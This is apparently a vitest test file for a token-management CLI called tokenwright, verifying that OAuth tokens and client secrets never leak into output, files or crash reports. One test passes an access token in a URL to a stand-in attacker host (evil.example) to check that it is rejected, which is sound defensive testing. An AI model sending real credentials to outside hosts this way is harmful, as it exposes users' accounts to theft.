import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parse } from 'dotenv';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { visit } from '../support/browser/visit.ts';
import { MAY_BE, watchCanaries } from '../support/canary/canary-watch.ts';
import { lineHere } from '../support/canary/line-here.ts';
import { parserOnly } from '../support/repository/program.ts';
import { type CommandWorld, openCommandWorld } from '../support/store/command-world.ts';
import { ownFolder } from '../support/terminal/own-folder.ts';
import { runProgram } from '../support/terminal/run-program.ts';

// P70 for every command: one store and one home for all of them, line after line, and each line is
// searched for everything that was secret by then; at the end all of it once more.

const watch = watchCanaries();
const undo: Array<() => void | Promise<void>> = [];
let world: CommandWorld;
let root = '';
let env: Readonly<Record<string, string>> = {};
let token = '';
let refreshToken = '';
const commandsMet = new Set<string>();

beforeAll(async () => {
  world = await openCommandWorld();
  root = await ownFolder((one) => void undo.push(one));
  undo.push(() => world.close());
  env = {
    ...world.env,
    HOME: root,
    TMPDIR: root,
    XDG_CONFIG_HOME: join(root, 'conf'),
    XDG_CACHE_HOME: join(root, 'cache'),
    XDG_STATE_HOME: join(root, 'state'),
    TOKENWRIGHT_REDIRECT_URI: world.redirectUri,
  };
  watch.add('client secret', world.store.app.clientSecret.reveal());
});
afterAll(async () => {
  for (const one of undo.toReversed()) await one();
});

const STORED = join('state', 'tokenwright', 'stores', 'tea.env');

/** What lies in the file of the store now is watched from now on. */
function noteTokens(): void {
  const values = parse(readFileSync(join(root, STORED)));
  token = values['TOKENWRIGHT_ACCESS_TOKEN'] ?? '';
  refreshToken = values['TOKENWRIGHT_REFRESH_TOKEN'] ?? '';
  watch.add('access token', token);
  watch.add('refresh token', refreshToken);
}

/** What a line said is called by its command, and by the option that asks for a secret. */
function placeOf(args: readonly string[]): string {
  return args.includes('--print-token') ? `${args[0]} --print-token` : (args[0] ?? '');
}

function expectClean(
  args: readonly string[],
  end: { readonly stdout: string; readonly stderr: string },
) {
  commandsMet.add(args[0] ?? '');
  watch.heard(`stdout of ${placeOf(args)}`, end.stdout);
  watch.heard(`stderr of ${placeOf(args)}`, end.stderr);
  watch.looked(root);
  expect(watch.leaks()).toEqual([]);
}

async function expectEnd(code: number, args: readonly string[], input?: string): Promise<void> {
  const line = lineHere(args, { cwd: root, env, ...(input === undefined ? {} : { input }) });
  const end = await line.end;
  expect(end.code, `${args.join(' ')}: ${end.stderr}`).toBe(code);
  expectClean(args, end);
}

/** A sign-in, approved as by a browser. */
async function signIn(...args: readonly string[]): Promise<string> {
  const line = lineHere(['token', ...args, '--scopes', 'read_products'], { cwd: root, env });
  const [, url = ''] = await line.said(/(http:\S+\/admin\/oauth\/authorize\?\S+)/);
  watch.add('state', new URL(url).searchParams.get('state') ?? '');
  const { redirect } = await world.store.approve(url);
  const { searchParams } = new URL(redirect);
  watch.add('code', searchParams.get('code') ?? '');
  watch.add('hmac', searchParams.get('hmac') ?? '');
  watch.heard('the page of the browser', (await visit(redirect)).text);
  const end = await line.end;
  expect(end.code, end.stderr).toBe(0);
  const printed = /practice_token_\w+/.exec(end.stdout);
  if (printed !== null) watch.add('access token', printed[0]);
  expectClean(['token', ...args], end);
  return end.stdout;
}

describe('a secret is only where it was asked for', () => {
  test('stores: a store gets a name', () => expectEnd(0, ['stores', 'add', 'tea', '--json']));

  test('token: into the file of a store, and renewed', async () => {
    await signIn('--store', 'tea', '--save', '--json', '--expiring', '--pkce');
    noteTokens();
    expect(statSync(join(root, STORED)).mode & 0o777).toBe(0o600);
    expect(statSync(dirname(join(root, STORED))).mode & 0o777).toBe(0o700);
    await expectEnd(0, ['refresh', '--store', 'tea', '--save']);
    noteTokens();
  });

  test('token: printed, because that was asked for', async () => {
    expect(await signIn('--print-token')).toContain('practice_token_');
  });

  test.each<[code: number, args: readonly string[], input?: string]>([
    [0, ['stores']],
    [0, ['stores', '--json']],
    [0, ['check', '--store', 'tea']],
    [0, ['check', '--store', 'tea', '--json']],
    [0, ['request', 'GET', 'shop.json', '--store', 'tea']],
    [0, ['request', 'GET', 'shop.json', '--store', 'tea', '--json']],
    [1, ['request', 'GET', 'nothing.json', '--store', 'tea']],
    [0, ['graphql', '{ shop { name } }', '--store', 'tea', '--json']],
    [1, ['graphql', '{ nothing }', '--store', 'tea', '--json']],
    [
      0,
      ['explore', '--plain', '--store', 'tea'],
      'GET shop.json\nheaders\nexport curl\nscopes\nquit\n',
    ],
    [0, ['learn']],
    [0, ['learn', '--json']],
    [0, ['completion', 'bash']],
    [0, ['completion-words', 'stores']],
    [0, ['kit', 'stick', '--dry-run', '--platforms', 'linux-x64']],
  ])('exit %i of %j', (code, args, input) => expectEnd(code, args, input));

  test('doctor: in words and as JSON', async () => {
    for (const more of [[], ['--json']]) {
      // Its port is nobody else's, whatever other tests hold.
      const own = ['--store', 'tea', '--redirect-uri', world.redirectUri];
      await expectEnd(0, ['doctor', ...own, ...more]);
    }
  });

  test('a secret in the wrong place of a line is not repeated', async () => {
    await expectEnd(2, ['request', 'GET', `https://evil.example/?${token}`, '--store', 'tea']);
    await expectEnd(2, ['check', '--store', token]);
    await expectEnd(2, ['stores', 'add', refreshToken]);
    await expectEnd(2, ['stores', 'add', 'two', '--shop', 'demo', '--client-id', token]);
    await expectEnd(2, ['token', '--save', world.store.app.clientSecret.reveal()]);
  });

  test('run: the child has the token in its environment, and nothing else of it', async () => {
    const file = join(world.folder, 'child.json');
    const said = 'JSON.stringify([process.argv, process.env])';
    const script = `fs.writeFileSync(${JSON.stringify(file)}, ${said})`;
    await expectEnd(0, ['run', '--store', 'tea', '--', process.execPath, '-e', script]);
    const child = readFileSync(file, 'utf8');
    watch.heard('environment of the child of run', child);
    expect(child).toContain(token);
    expect(watch.leaks()).toEqual([]);
  });

  test('practice: says the credentials of its own app, and nobody else’s', async () => {
    const line = lineHere(['practice', '--port', '0', '--no-keep'], { cwd: root, env });
    const [own] = await line.said(/practice_secret_\w+/);
    watch.add('client secret of its own app', own);
    line.stop();
    expectClean(['practice'], await line.end);
  });

  test('a defect: its report has none, whatever is in the words of the error', async () => {
    const hook = join(root, 'defect.mjs');
    const name = 'TOKENWRIGHT_CLIENT_SECRET';
    writeFileSync(
      hook,
      `const words = process.env.${name};
      process.once('newListener', () => setImmediate(() => { throw new Error('with ' + words); }));`,
    );
    const nodeOptions = ['--import', pathToFileURL(hook).href];
    const end = await runProgram(['practice', '--port', '0'], { cwd: root, env, nodeOptions });
    expect(end.code).toBe(70);
    expect(end.stderr).toContain('a defect of its own');
    expectClean(['practice'], end);
  });

  test('a token that somebody wrote into the list of stores is not repeated', async () => {
    const list = join(root, 'conf', 'tokenwright', 'stores.json');
    const before = readFileSync(list, 'utf8');
    writeFileSync(list, before.replace('"tea"', `"tea", "note": "${token}"`));
    const ends = await Promise.all(
      [['stores'], ['check', '--store', 'tea']].map(
        (args) => lineHere(args, { cwd: root, env }).end,
      ),
    );
    writeFileSync(list, before);
    expect(ends.map(({ code }) => code)).toEqual([2, 2]);
    for (const end of ends) expectClean(['stores'], end);
  });

  test('revoke, stores and forget: afterwards no file holds any', async () => {
    await expectEnd(0, ['revoke', '--store', 'tea', '--yes', '--json']);
    await expectEnd(0, ['stores', 'remove', 'tea', '--yes', '--json']);
    expect(existsSync(join(root, STORED))).toBe(false);
    await expectEnd(0, ['forget', '--yes', '--json']);
  });
});

test('the search is of use: each place where a secret may be had one', () => {
  expect(watch.leaks()).toEqual([]);
  const rows = MAY_BE.filter(([, place]) => place !== 'file .env');
  expect([...watch.needed()].toSorted()).toEqual(
    rows.map(([name, place]) => `${name} in ${place}`).toSorted(),
  );
});

test('every command is among the flows, or its faces are in canary.test.ts', () => {
  const commands = parserOnly().commands.map((command) => command.name());
  expect(commands.length).toBeGreaterThan(10);
  expect(commands.filter((name) => name !== 'help' && !commandsMet.has(name))).toEqual([]);
});
